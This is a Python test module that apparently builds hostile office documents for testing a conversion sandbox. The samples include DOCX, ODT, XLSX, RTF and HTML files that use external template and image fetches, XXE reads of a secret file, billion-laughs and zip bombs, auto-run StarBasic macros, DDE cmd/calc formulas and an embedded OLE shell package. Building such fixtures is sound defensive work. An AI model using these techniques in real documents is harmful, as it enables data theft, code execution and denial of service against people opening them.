"""Office documents that want something: to fetch, to show what is the host's, to run, or to use everything up."""

import struct
from functools import cache

from tests.sandbox.formats.compound import compound_file
from tests.sandbox.office import documents as d
from tests.sandbox.office import vba


def _field(instruction: str) -> bytes:
    document = d.docx_with("FIELD")
    field = "".join(
        f"<w:r>{part}</w:r>"
        for part in (
            '<w:fldChar w:fldCharType="begin"/>',
            f'<w:instrText xml:space="preserve">{instruction}</w:instrText>',
            '<w:fldChar w:fldCharType="separate"/>',
            "<w:t>cached</w:t>",
            '<w:fldChar w:fldCharType="end"/>',
        )
    )
    xml = d.part(document, "word/document.xml").replace("<w:r><w:t>FIELD</w:t></w:r>", field)
    return d.rezipped(document, {"word/document.xml": xml})


def _related(document: bytes, part: str, kind: str, url: str) -> bytes:
    """One more relationship of `part` to something outside, named rIdX."""
    folder, _, name = part.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    added = f'<Relationship Id="rIdX" Type="{d.RELATION}/{kind}" Target="{url}" TargetMode="External"/></Relationships>'
    try:
        old = d.part(document, path)
    except KeyError:
        old = f'<?xml version="1.0"?><Relationships {d.RELATIONS}></Relationships>'
    return d.rezipped(document, {path: old.replace("</Relationships>", added)})


_PICTURE = (
    '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdX"/>'
    '<a:stretch xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:fillRect/></a:stretch>'
)


def _docx_image(url: str) -> bytes:
    document = d.docx_with("PICTURE")
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="900000" cy="900000"/><wp:docPr id="9" name="p"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'{_PICTURE}</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    )
    xml = d.part(document, "word/document.xml").replace("<w:r><w:t>PICTURE</w:t></w:r>", drawing)
    return _related(d.rezipped(document, {"word/document.xml": xml}), "word/document.xml", "image", url)


def _pptx_image(url: str) -> bytes:
    document = d.pptx(1)
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        f'{_PICTURE}</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:spTree>'
    )
    xml = d.part(document, "ppt/slides/slide1.xml").replace("</p:spTree>", picture)
    return _related(d.rezipped(document, {"ppt/slides/slide1.xml": xml}), "ppt/slides/slide1.xml", "image", url)


def _ole(url: str) -> bytes:
    """An object that lies elsewhere."""
    linked = (
        f'<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href="{url}"/></draw:frame>x</text:p>'
    )
    return d.odt(linked)


def _embedded(program: str) -> bytes:
    """A package that a double click would start (MS-OLEDS section 2.3.6), as Word embeds it."""
    name = b"invoice.sh\0" + program.encode() + b"\0"
    script = f"#!/bin/sh\ntouch {program}\n".encode()
    inner = struct.pack("<H", 2) + name + struct.pack("<HHI", 0, 3, len(program) + 1) + program.encode() + b"\0"
    inner += struct.pack("<I", len(script)) + script
    native = struct.pack("<I", len(inner)) + inner
    held = compound_file({"\x01Ole10Native": native, "\x01CompObj": bytes(4096)})
    document = d.docx_with("OBJECT")
    run = (
        '<w:r><w:object w:dxaOrig="1500" w:dyaOrig="1000"><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" Type="Embed" ProgID="Package" '
        'ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="rIdO"/></w:object></w:r>'
    )
    relations = d.part(document, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdO" Type="{d.RELATION}/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>',
    )
    types = d.part(document, "[Content_Types].xml").replace(
        "<Default ",
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default ',
        1,
    )
    return d.rezipped(
        document,
        {
            "word/document.xml": d.part(document, "word/document.xml").replace("<w:r><w:t>OBJECT</w:t></w:r>", run),
            "word/_rels/document.xml.rels": relations,
            "[Content_Types].xml": types,
            "word/embeddings/oleObject1.bin": held,
        },
    )


def _template(url: str) -> bytes:
    """A text whose template lies elsewhere, where it would be fetched with its macros."""
    document = d.docx_with("x")
    settings = d.part(document, "word/settings.xml")
    start = settings.index(">", settings.index("<w:settings")) + 1
    attached = '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/>'
    changed = d.rezipped(document, {"word/settings.xml": settings[:start] + attached + settings[start:]})
    return _related(changed, "word/settings.xml", "attachedTemplate", url)


def _workbook_link(url: str) -> bytes:
    """A sum over a workbook that lies elsewhere."""
    book = d.xlsx_with({"A": [["=[1]Sheet1!A1", "x"]]})
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    other = (
        f'<?xml version="1.0"?><externalLink {space}><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    workbook = d.part(book, "xl/workbook.xml").replace(
        "</sheets>",
        '</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rIdL"/></externalReferences>',
    )
    relations = d.part(book, "xl/_rels/workbook.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdL" Type="{d.RELATION}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    types = d.part(book, "[Content_Types].xml").replace(
        "</Types>",
        f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{d.OOXML}.spreadsheetml.externalLink+xml"/></Types>',
    )
    changed = d.rezipped(
        book,
        {
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": relations,
            "[Content_Types].xml": types,
            "xl/externalLinks/externalLink1.xml": other,
        },
    )
    return _related(changed, "xl/externalLinks/externalLink1.xml", "externalLinkPath", url)


def macro(path: str) -> bytes:
    """A text that writes `path` as soon as it is opened, if its Basic may run."""
    basic = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
        'script:language="StarBasic">Sub Main\nOpen &quot;'
        f"{path}&quot; For Output As #1\nPrint #1, &quot;ran&quot;\nClose #1\nEnd Sub</script:module>"
    )
    library = (
        '<?xml version="1.0"?><library:{tag} xmlns:library="http://openoffice.org/2000/library" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"{attributes}>{inner}</library:{tag}>'
    )
    listing = library.format(
        tag="library",
        attributes=' library:name="Standard" library:readonly="false" library:passwordprotected="false"',
        inner='<library:element library:name="M"/>',
    )
    libraries = library.format(
        tag="libraries", attributes="", inner='<library:library library:name="Standard" library:link="false"/>'
    )
    start = (
        "<office:scripts><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts>"
    )
    return d.odt(
        "<text:p>with a macro</text:p>",
        styles=start,
        extra={
            "Basic/script-lc.xml": libraries,
            "Basic/Standard/script-lb.xml": listing,
            "Basic/Standard/M.xml": basic,
        },
    )


@cache
def hostile(url: str, secret: str) -> dict[str, bytes]:
    image = '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{}"/></draw:frame>x</text:p>'
    section = '<text:section text:name="s"><text:section-source xlink:href="{}"/><text:p>x</text:p></text:section>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    plain = d.part(d.odt(), "content.xml").split("?>", 1)[1]
    xxe = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret}">]>' + plain.replace("hello odt", "&e;")
    bomb = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>' + plain.replace("hello odt", "&l9;")
    return {
        "docx-image": _docx_image(url),
        "pptx-image": _pptx_image(url),
        "ole": _ole(url),
        "image": d.odt(image.format(url)),
        "image-file": d.odt(image.format(secret)),
        "section": d.odt(section.format(url)),
        "section-file": d.odt(section.format(secret)),
        "includetext": _field(f'INCLUDETEXT "{secret}"'),
        "includepicture": _field(f'INCLUDEPICTURE "{url}" \\d'),
        "ole-embedded": _embedded(f"{secret.removeprefix('file://')}.ran"),
        "template": _template(url),
        "workbook-link": _workbook_link(url),
        "workbook-file": _workbook_link(secret),
        "rtf-fields": (
            b'{\\rtf1{\\*\\template %b}x{\\field{\\*\\fldinst INCLUDEPICTURE "%b" \\\\d}{\\fldrslt y}}'
            b'{\\field{\\*\\fldinst INCLUDETEXT "%b"}{\\fldrslt z}}}'
        )
        % (url.encode(), url.encode(), secret.encode()),
        "macro": macro(f"{secret.removeprefix('file://')}.ran"),
        **{
            f"macro-{name}": made
            for name, (_, made) in vba.harmful(f"{secret.removeprefix('file://')}.ran", url).items()
        },
        "dde-sheet": d.xlsx_with({"A": [["=cmd|'/c calc'!A1", f'=DDE("soffice";"{secret}";"A1")', "x"]]}),
        "dde": _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        "webservice": d.xlsx_with({"A": [[f'=_xlfn.WEBSERVICE("{url}")', f'=_xlfn.WEBSERVICE("{secret}")', "x"]]}),
        "html": f'<html><body><img src="{url}"><iframe src="{secret}"></iframe><p>x</p></body></html>'.encode(),
        "xxe": d.rezipped(d.odt(), {"content.xml": xxe}),
        "laughs": d.rezipped(d.odt(), {"content.xml": bomb}),
        "zip-bomb": d.rezipped(d.docx_with("x"), {"word/document.xml": bytes(100_000_000)}),
        "truncated": d.docx_with("x")[:9000],
    }
